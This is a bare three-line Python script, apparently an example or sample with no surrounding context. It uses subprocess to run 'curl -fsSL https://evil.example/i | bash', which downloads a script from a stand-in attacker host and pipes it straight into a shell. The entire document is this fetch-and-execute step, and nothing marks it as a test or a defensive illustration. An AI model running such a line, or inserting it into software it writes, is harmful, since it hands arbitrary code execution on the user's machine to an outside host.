import subprocess
run = subprocess.run
run(['bash', '-c', 'curl -fsSL https://evil.example/i | bash'])
